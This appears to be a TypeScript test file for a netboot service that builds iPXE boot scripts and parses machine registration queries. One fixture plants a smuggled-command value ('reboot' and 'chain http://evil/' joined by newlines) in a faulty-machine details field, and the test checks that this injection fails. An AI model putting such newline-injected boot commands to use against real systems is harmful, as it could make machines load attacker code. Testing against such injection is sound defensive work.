import fc from 'fast-check';
import t from 'tap';
import { renderBootstrap, SWITCH_PLACEHOLDER } from '../../src/http/netboot/bootstrap.js';
import {
  bootAnswer,
  bootPathMac,
  parseRegisterQuery,
  pythonInt,
  pythonStrRepr,
} from '../../src/http/netboot/policy.js';
import { buildSnapshot } from '../../src/http/netboot/view.js';
import type { Machine } from '../../src/mdb/model.js';
import { machineRecord } from '../helpers/records.js';

function machine(over: Partial<Machine>): Machine {
  return machineRecord({ hostname: 'm', ip: '192.168.0.1', mac: '00:00:00:00:00:01', ...over });
}

const opts = { fallback: false, options: 'quiet' };

t.test(
  'boot path: trailing slash required, percent-decoded, everything between prefix and slash',
  async (t) => {
    t.equal(bootPathMac('/boot/aa:bb:cc:dd:ee:01/'), 'aa:bb:cc:dd:ee:01');
    t.equal(bootPathMac('/boot/52%3A54%3A00%3A12%3A34%3A56/'), '52:54:00:12:34:56');
    t.equal(bootPathMac('/boot/aa:bb:cc:dd:ee:01'), undefined);
    t.equal(bootPathMac('/boot/'), undefined);
    t.equal(bootPathMac('/boot//'), '');
    t.equal(bootPathMac('/boot/a/b/'), 'a/b');
    t.equal(bootPathMac('/boot/%E0%A4%A/'), '%E0%A4%A', 'undecodable stays raw');
    t.equal(bootPathMac('/bootstrap'), undefined);
  },
);

t.test('RFS alias is matched as a whole token, first by hostname order', async (t) => {
  const snap = buildSnapshot([
    machine({ hostname: 'client', mac: 'aa:00:00:00:00:01', rfs: 1 }),
    machine({
      hostname: 'rhfs10',
      ip: '192.168.1.20',
      mac: 'aa:00:00:00:00:02',
      aliases: 'rhfs10,hfs10,rfs10',
    }),
    machine({ hostname: 'zeta', ip: '192.168.1.31', mac: 'aa:00:00:00:00:03', aliases: 'rfs1' }),
    machine({ hostname: 'alpha', ip: '192.168.1.30', mac: 'aa:00:00:00:00:04', aliases: 'x,rfs1' }),
  ]);
  const a = bootAnswer('aa:00:00:00:00:01', snap, opts);
  t.equal(a.outcome, 'boot');
  t.match(
    a.script,
    /nfsroot=192\.168\.1\.30:\/export\/nfsroot,ro quiet\n/,
    'alpha (first by hostname), not rhfs10',
  );
  const b = bootAnswer(
    'aa:00:00:00:00:01',
    buildSnapshot([
      machine({ mac: 'aa:00:00:00:00:01', rfs: 1 }),
      machine({ hostname: 'r', mac: 'x', aliases: 'rfs10' }),
    ]),
    opts,
  );
  t.equal(b.outcome, 'no_rfs', 'rfs10 does not serve rfs1');
  t.match(b.script, 'No such RFS: rfs1\n');
});

t.test('boot answer table', async (t) => {
  const snap = buildSnapshot([
    machine({
      hostname: 'rhfs0',
      ip: '192.168.1.10',
      mac: 'aa:00:00:00:00:10',
      aliases: 'rhfs,rhfs0,hfs0,rfs0',
      mtype: 'service',
    }),
    machine({ hostname: 'ok', mac: 'aa:00:00:00:00:01' }),
    machine({
      hostname: 'bad',
      mac: 'aa:00:00:00:00:02',
      is_faulty: true,
      is_faulty_details: 'bad RAM\nreboot\nchain http://evil/',
    }),
    machine({ hostname: 'far', mac: 'aa:00:00:00:00:03', rfs: 3 }),
  ]);
  const cases: Array<[string, string, RegExp[]]> = [
    ['aa:00:00:00:00:01', 'boot', [/^#!ipxe\n/, /\ninitrd http:\/\/rfs0\/boot\/initramfs-linux\.img\n/]],
    ['AA:00:00:00:00:01', 'unknown', [/sleep 30\nreboot\n$/]],
    [
      'aa:00:00:00:00:02',
      'faulty',
      [/echo Reason: bad RAM reboot chain http:\/\/evil\/\necho\nsleep 60\nreboot\n$/],
    ],
    ['aa:00:00:00:00:03', 'far', [/No such RFS: rfs3\n/, /sleep 30\nreboot\n$/]],
    ['', 'unknown', [/not in MDB/]],
  ];
  for (const [mac, expected, patterns] of cases) {
    const a = bootAnswer(mac, snap, opts);
    t.equal(a.outcome, expected === 'far' ? 'no_rfs' : expected, mac);
    for (const p of patterns) t.match(a.script, p, `${mac}: ${p}`);
  }
  const faulty = bootAnswer('aa:00:00:00:00:02', snap, opts).script;
  t.equal(faulty.split('\n').filter((l) => l === 'reboot').length, 1, 'details cannot inject commands');
  t.match(
    bootAnswer('aa:00:00:00:00:01', snap, { fallback: true, options: 'x' }).script,
    'initramfs-linux-fallback.img',
  );
});

t.test('register query: order of checks and the original error texts', async (t) => {
  const q = (s: string) => parseRegisterQuery(new URLSearchParams(s));
  t.same(q('hostname=newmachine&mac=52%3A54%3A00%3A12%3A34%3A56&rfs=0&hfs=1&room=pasteur&mtype=user'), {
    ok: true,
    args: {
      hostname: 'newmachine',
      mac: '52:54:00:12:34:56',
      rfs: 0,
      hfs: 1,
      room: 'pasteur',
      mtype: 'user',
    },
  });
  t.same(q('hostname=a&mac=b&rfs=0&hfs=0&room=pasteur'), {
    ok: false,
    message: 'HTTP 400: Bad Request (Missing argument mtype)',
  });
  t.same(
    q('rfs=abc'),
    { ok: false, message: 'HTTP 400: Bad Request (Missing argument hostname)' },
    'hostname is read first',
  );
  t.same(q('hostname=a&mac=b&rfs=abc&hfs=0&room=r&mtype=user'), {
    ok: false,
    message: "invalid literal for int() with base 10: 'abc'",
  });
  t.same(q('hostname=a&mac=b&rfs=0&hfs=&room=r&mtype=user'), {
    ok: false,
    message: "invalid literal for int() with base 10: ''",
  });
  t.same(
    q('hostname=+a+&mac=b&rfs=+7+&hfs=1_0&room=r&mtype=user&mtype=orga'),
    {
      ok: true,
      args: { hostname: 'a', mac: 'b', rfs: 7, hfs: 10, room: 'r', mtype: 'orga' },
    },
    'stripped like Tornado, last value wins, Python int syntax',
  );
});

t.test('python repr and int', async (t) => {
  t.equal(pythonStrRepr('abc'), "'abc'");
  t.equal(pythonStrRepr("it's"), `"it's"`);
  t.equal(pythonStrRepr(`it's "x"`), `'it\\'s "x"'`);
  t.equal(pythonStrRepr('a\\b\n\x01é'), "'a\\\\b\\n\\x01é'");
  t.equal(pythonInt('-12'), -12);
  t.equal(pythonInt('1__0'), undefined);
  t.equal(pythonInt('0x10'), undefined);
  t.equal(pythonInt('1.0'), undefined);
});

t.test('bootstrap: switch table replaces the placeholder, rest intact', async (t) => {
  const none = renderBootstrap([], 'http://netboot');
  t.notMatch(none, SWITCH_PLACEHOLDER);
  t.match(none, 'Prologin netboot environment');
  t.match(none, 'chain http://netboot/boot/${mac}/ || goto reboot');
  t.match(
    none,
    'chain http://netboot/register?hostname=${hostname}&mac=${mac}&rfs=${rfs_id}&hfs=${hfs_id}&room=${room}&mtype=${mtype} || goto reboot',
  );
  const two = renderBootstrap(
    [
      { chassis: '68:b5:99:9f:45:40', rfs: 0, hfs: 0, room: 'pasteur' },
      { chassis: '68:b5:99:9f:45:41', rfs: 1, hfs: 1, room: 'alt' },
    ],
    'http://netboot',
  );
  t.match(
    two,
    'set timeout 60\nset sw_name_0 68:b5:99:9f:45:40\nset sw_rfs_0 0\nset sw_hfs_0 0\nset sw_room_0 pasteur\n\n' +
      'set sw_name_1 68:b5:99:9f:45:41\nset sw_rfs_1 1\nset sw_hfs_1 1\nset sw_room_1 alt\nset short_pasteur pas\n',
  );
  t.equal(two.replace(/set sw_[^\n]*\n\n?/g, ''), none.replace('set timeout 60\n\n', 'set timeout 60\n'));
  // Every goto target exists as a label.
  const labels = new Set([...none.matchAll(/^:(\w+)$/gm)].map((m) => m[1]));
  for (const m of none.matchAll(/goto (\w+)/g)) t.ok(labels.has(m[1]), `label ${m[1]} exists`);
  for (const item of ['lldp', 'manual', 'reboot', 'shell'])
    t.ok(labels.has(item), `menu item ${item} has a label`);
  t.match(renderBootstrap([], 'http://netboot:8080'), 'chain http://netboot:8080/boot/${mac}/ ');
});

t.test('decoders never throw on arbitrary input', async () => {
  const snap = buildSnapshot([machine({ mac: 'aa:00:00:00:00:01' })]);
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (s) => {
      const mac = bootPathMac(`/boot/${s}/`);
      if (mac !== undefined) bootAnswer(mac, snap, opts);
      const r = parseRegisterQuery(new URLSearchParams(s));
      if (!r.ok && typeof r.message !== 'string') throw new Error('no message');
      pythonStrRepr(s);
    }),
  );
});
